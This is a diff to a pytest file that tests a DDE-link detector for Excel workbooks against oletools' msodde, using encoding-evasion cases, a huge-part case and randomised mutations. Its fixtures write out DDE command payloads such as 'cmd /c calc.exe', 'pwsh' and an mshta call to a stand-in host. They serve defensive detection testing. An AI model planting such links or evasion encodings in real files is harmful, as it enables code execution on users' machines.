@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import random
 import struct
 import time
 import zipfile
@@ -11,7 +12,7 @@ from collections.abc import Callable
 import pytest
 from oletools import msodde
 
-from coinguard.analyzers.dde import DdeFields, xlsx_dde_links
+from coinguard.analyzers.dde import DdeFields, _xml_dde_links, xlsx_dde_links
 from coinguard.analyzers.office_common import memory_path
 from coinguard.findings import Finding, Item
 from coinguard.sniff import sniff
@@ -87,6 +88,17 @@ CASES: dict[str, tuple[bytes, list[str]]] = {
                                   '<a:ddelink xmlns:a="urn:x" ddeTopic="only a topic"/>'
                                   f'<ddeLin{KELVIN} ddeService="pwsh"/></r>').encode()),
         ["mshta http://x.example/a", "only a topic", "pwsh"]),
+    "kelvin sign alone in a utf-8 part": (workbook(
+        xl__externalLinks__externalLink1_dot_xml=DDE_LINK.replace(b"ddeLink", "ddeLin\u212a".encode())),
+        ["cmd /c calc.exe"]),
+    "tag spelt by character references in an entity": (workbook(xl__externalLinks__externalLink1_dot_xml=(
+        HEAD + b'<!DOCTYPE r [<!ENTITY e "<&#100;deLink ddeService=\'cmd\' ddeTopic=\'/c calc\'/>">]><r>&e;</r>')),
+        ["cmd /c calc"]),
+    "latin-1 part": (workbook(xl__externalLinks__externalLink1_dot_xml=(
+        '<?xml version="1.0" encoding="ISO-8859-1"?><r>\xe9t\xe9<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'
+        '</r>').encode("latin-1")), ["cmd /c calc"]),
+    "utf-8 BOM, single quotes": (workbook(xl__externalLinks__externalLink1_dot_xml=(
+        b"\xef\xbb\xbf<?xml version='1.0' encoding='utf-8'?>" + DDE_LINK[len(HEAD):])), ["cmd /c calc.exe"]),
     "utf-16 part": (workbook(xl__externalLinks__externalLink1_dot_xml=DDE_LINK.decode().replace(
         "UTF-8", "UTF-16").encode("utf-16")), ["cmd /c calc.exe"]),
     "link before junk after the root": (workbook(xl__externalLinks__externalLink1_dot_xml=DDE_LINK + b"<x/>"),
@@ -104,6 +116,19 @@ def test_same_links_as_msodde(case: str) -> None:
     theirs, ours = both(data)
     assert ours == theirs
     assert ours == expected
+
+
+def test_a_part_neither_xml_nor_records_without_a_content_type_is_skipped_where_msodde_fails() -> None:
+    """The one difference: msodde's handler for a part the XLSB record parser rejects reads its
+    content type, which is None when [Content_Types].xml names none (AttributeError, its bug); such a
+    part cannot hold a SupBook record, and a part with a content type is skipped by msodde too."""
+    data = workbook(xl__externalLinks__externalLink1_dot_xml=DDE_LINK, xl__blob_dot_dat=b"\xff")
+    with memory_path(data) as path:
+        with pytest.raises(AttributeError):
+            msodde.process_xlsx(path)
+        assert xlsx_dde_links(data, path, make_context()) == "cmd /c calc.exe"
+    typed = workbook(xl__externalLinks__externalLink1_dot_xml=DDE_LINK, xl__blob_dot_bin=b"\xff")
+    assert both(typed) == (["cmd /c calc.exe"], ["cmd /c calc.exe"])
 
 
 @pytest.mark.parametrize("name", ["oletools_dde-test.xlsx"])
@@ -169,3 +194,62 @@ def test_cost_grows_linearly_and_stays_below_msodde() -> None:
         t_msodde = cpu(lambda: msodde.process_xlsx(p_large))
     assert t_large <= 13 * t_small + 0.005, (t_small, t_large)
     assert t_large * 3 < t_msodde, (t_large, t_msodde)
+
+
+def test_a_part_over_libxml2s_10_mb_feed_limit_is_still_well_formed_xml() -> None:
+    """lxml refuses one feed() over 10 MB ("huge input lookup"); iterparse feeds 32 KB at a time."""
+    rows = b'<row><c t="n"><v>12345</v></c></row>' * 320_000
+    part = HEAD + b"<worksheet><sheetData>" + rows + b"</sheetData></worksheet>"
+    assert len(part) > 11_000_000
+    linked = HEAD + b"<worksheet><sheetData>" + rows + b'<ddeLink ddeService="cmd" ddeTopic="/c calc.exe"/>' \
+        b"</sheetData></worksheet><junk-after-the-root/>"
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
+        zf.writestr("xl/worksheets/sheet1.xml", part)
+        zf.writestr("xl/worksheets/sheet2.xml", linked)
+    with zipfile.ZipFile(buf) as zf:
+        assert _xml_dde_links(zf, "xl/worksheets/sheet1.xml") == ([], True)
+        assert _xml_dde_links(zf, "xl/worksheets/sheet2.xml") == (["cmd /c calc.exe"], False)
+
+
+MUTATIONS = (b"<ddeLink ddeService='cmd' ddeTopic='x'/>", b"<", b">", b"&", b"]]>", b"\x00", b"\xff", b"</c>",
+             b"<!ENTITY", b"ddelink", b"<x:ddeLink/>", b"<?xml version='1.0' encoding='utf-16'?>",
+             "\u212a".encode(), b"<!DOCTYPE r []>")
+
+
+def test_mutated_workbooks_give_msodde_s_links_or_both_fail() -> None:
+    """300 workbooks with one part cut, spliced or garbled: the same links, or an error from both
+    (msodde's content-type bug excepted: its AttributeError, where we go on)."""
+    rng = random.Random(13)
+    base = {"[Content_Types].xml": CTYPES, "xl/workbook.xml": BOOK, "xl/worksheets/sheet1.xml": sheet(30),
+            "xl/externalLinks/externalLink1.xml": DDE_LINK}
+
+    def outcome(fn: Callable[[], str]) -> tuple[str, object]:
+        try:
+            return "links", sorted(filter(None, fn().split("\n")))
+        except Exception as exc:
+            return "error", type(exc).__name__
+
+    for _ in range(300):
+        parts = dict(base)
+        name = rng.choice(list(parts))
+        part = bytearray(parts[name])
+        for _ in range(rng.randint(1, 3)):
+            at = rng.randrange(len(part) + 1)
+            how = rng.random()
+            if how < 0.4:
+                part[at:at] = rng.choice(MUTATIONS)
+            elif how < 0.6:
+                del part[at:]
+            elif how < 0.8 and at < len(part):
+                part[at] = rng.randrange(256)
+            else:
+                del part[at:at + rng.randint(1, 20)]
+        parts[name] = bytes(part)
+        data = zip_bytes(parts)
+        with memory_path(data) as path:
+            theirs = outcome(lambda: msodde.process_xlsx(path))
+            ours = outcome(lambda: xlsx_dde_links(data, path, make_context()))  # noqa: B023
+        if theirs == ("error", "AttributeError"):
+            continue
+        assert ours[0] == theirs[0] and (ours[0] == "error" or ours == theirs), (name, bytes(part)[:300])
